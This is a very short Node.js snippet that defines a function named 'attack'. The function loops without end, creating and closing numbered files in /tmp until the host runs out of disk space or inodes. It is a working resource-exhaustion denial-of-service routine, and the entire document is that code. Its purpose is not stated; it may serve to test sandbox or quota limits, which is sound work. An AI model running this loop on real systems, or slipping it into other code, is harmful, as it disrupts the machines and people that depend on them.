const fs = require("node:fs");

function attack() {
  for (let index = 0; ; index += 1) fs.closeSync(fs.openSync(`/tmp/${index}`, "w"));
}
